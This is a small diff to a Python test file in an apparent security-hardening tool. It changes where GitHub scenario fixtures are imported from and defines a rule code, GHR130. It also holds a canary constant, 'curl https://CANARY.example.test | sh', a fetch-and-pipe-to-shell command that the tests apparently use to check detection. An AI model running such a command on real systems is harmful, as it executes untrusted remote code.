@@ -7,9 +7,9 @@ from typing import Any
 
 import pytest
 
-from hardenme.sandbox.github import scenarios as github
 from hardenme.sandbox.npm import scenarios as npm
 from tests.running import NOW, Stage, stage
+from tests.worlds import github
 
 CODE = "GHR130"
 SECRET = "curl https://CANARY.example.test | sh"
